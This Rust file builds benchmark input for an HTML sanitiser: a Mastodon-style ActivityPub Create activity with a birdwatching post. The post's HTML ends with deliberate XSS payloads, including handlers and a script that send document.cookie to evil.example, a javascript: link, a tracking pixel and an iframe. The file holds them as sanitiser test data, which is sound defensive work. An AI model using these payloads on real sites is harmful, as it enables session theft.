//! Inputs shared by this crate's benchmarks: a `Create` of a Note in the
//! shape Mastodon 4.x sends, whose content is a 1–2 KB post with mentions,
//! hashtags and shortened links, followed by what a hostile server could
//! add (a style sheet, handlers, a `javascript:` link, a script, an iframe).

use serde_json::json;

/// The Note's `content`, as HTML.
pub const CONTENT_HTML: &str = concat!(
    r#"<p><span class="h-card" translate="no"><a href="https://perch.example/@bob" class="u-url mention">@<span>bob</span></a></span> "#,
    r#"<span class="h-card" translate="no"><a href="https://social.example/@carol" class="u-url mention">@<span>carol</span></a></span> "#,
    "the spring migration is on: three robins and a pair of goldfinches at the feeder this morning, ",
    "and the first swifts over the river since April.</p>",
    r#"<p>Counts and photos are on the survey page <a href="https://birds.example/surveys/2026/spring/riverside-park?week=14&amp;observer=alice" target="_blank" rel="nofollow noopener noreferrer" translate="no">"#,
    r#"<span class="invisible">https://</span><span class="ellipsis">birds.example/surveys/2026/spr</span><span class="invisible">ing/riverside-park?week=14&amp;observer=alice</span></a> "#,
    r#"and the raw data at <a href="https://data.example/d/7f3a" target="_blank" rel="nofollow noopener noreferrer" translate="no"><span class="invisible">https://</span><span class="">data.example/d/7f3a</span></a></p>"#,
    "<p>If you are nearby this weekend, bring binoculars and a flask: we meet at the north gate at 7.<br>",
    "Bad weather plan: the café by the bridge &amp; its terrace.</p>",
    r#"<p><a href="https://mastodon.example/tags/Birds" class="mention hashtag" rel="tag">#<span>Birds</span></a> "#,
    r#"<a href="https://mastodon.example/tags/Birdwatching" class="mention hashtag" rel="tag">#<span>Birdwatching</span></a> "#,
    r#"<a href="https://mastodon.example/tags/SpringMigration" class="mention hashtag" rel="tag">#<span>SpringMigration</span></a></p>"#,
    "<style>.h-card{display:none} body{background:url(https://evil.example/track.gif)}</style>",
    r#"<p onclick="fetch('https://evil.example/steal?c='+document.cookie)">Click <a href="javascript:alert(document.domain)" onmouseover="alert(1)">here</a> "#,
    r#"for <img src="https://evil.example/pixel.gif" onerror="alert(2)"> more "#,
    "<script>document.location='https://evil.example/?'+document.cookie</script>",
    r#"<iframe src="https://evil.example/frame"></iframe> <b style="color:red">now</b></p>"#,
);

const NOTE: &str = "https://mastodon.example/users/alice/statuses/113456789012345678";

/// The `Create` activity as the bytes of its body, compact as Mastodon
/// sends it (`content` and `contentMap` both carry the HTML).
pub fn create_activity() -> Vec<u8> {
    let activity = json!({
        "@context": [
            "https://www.w3.org/ns/activitystreams",
            {
                "ostatus": "http://ostatus.org#",
                "atomUri": "ostatus:atomUri",
                "inReplyToAtomUri": "ostatus:inReplyToAtomUri",
                "conversation": "ostatus:conversation",
                "sensitive": "as:sensitive",
                "toot": "http://joinmastodon.org/ns#",
                "votersCount": "toot:votersCount",
                "blurhash": "toot:blurhash",
                "focalPoint": {"@container": "@list", "@id": "toot:focalPoint"},
                "Hashtag": "as:Hashtag"
            }
        ],
        "id": format!("{NOTE}/activity"),
        "type": "Create",
        "actor": "https://mastodon.example/users/alice",
        "published": "2026-11-20T10:15:30Z",
        "to": ["https://www.w3.org/ns/activitystreams#Public"],
        "cc": [
            "https://mastodon.example/users/alice/followers",
            "https://perch.example/users/bob",
            "https://social.example/users/carol"
        ],
        "object": {
            "id": NOTE,
            "type": "Note",
            "summary": null,
            "inReplyTo": "https://social.example/users/carol/statuses/113456700000000001",
            "published": "2026-11-20T10:15:30Z",
            "url": "https://mastodon.example/@alice/113456789012345678",
            "attributedTo": "https://mastodon.example/users/alice",
            "to": ["https://www.w3.org/ns/activitystreams#Public"],
            "cc": [
                "https://mastodon.example/users/alice/followers",
                "https://perch.example/users/bob",
                "https://social.example/users/carol"
            ],
            "sensitive": false,
            "atomUri": NOTE,
            "inReplyToAtomUri": "https://social.example/users/carol/statuses/113456700000000001",
            "conversation": "tag:mastodon.example,2026-11-20:objectId=123:objectType=Conversation",
            "content": CONTENT_HTML,
            "contentMap": {"en": CONTENT_HTML},
            "attachment": [
                {
                    "type": "Document",
                    "mediaType": "image/jpeg",
                    "url": "https://files.mastodon.example/media_attachments/files/113/456/789/original/a1b2c3d4e5f6.jpg",
                    "name": "Three robins on the rim of a wooden bird feeder, one with a seed in its beak",
                    "blurhash": "UBL_:rOpGG-oBUNG,qRj2so|=eE1w^n4S5NH",
                    "focalPoint": [0.0, 0.12],
                    "width": 1600,
                    "height": 1200
                }
            ],
            "tag": [
                {"type": "Mention", "href": "https://perch.example/users/bob", "name": "@bob@perch.example"},
                {"type": "Mention", "href": "https://social.example/users/carol", "name": "@carol@social.example"},
                {"type": "Hashtag", "href": "https://mastodon.example/tags/birds", "name": "#Birds"},
                {"type": "Hashtag", "href": "https://mastodon.example/tags/birdwatching", "name": "#Birdwatching"},
                {"type": "Hashtag", "href": "https://mastodon.example/tags/springmigration", "name": "#SpringMigration"}
            ],
            "replies": {
                "id": format!("{NOTE}/replies"),
                "type": "Collection",
                "first": {
                    "type": "CollectionPage",
                    "next": format!("{NOTE}/replies?only_other_accounts=true&page=true"),
                    "partOf": format!("{NOTE}/replies"),
                    "items": []
                }
            }
        }
    });
    serde_json::to_vec(&activity).expect("a JSON value serialises")
}
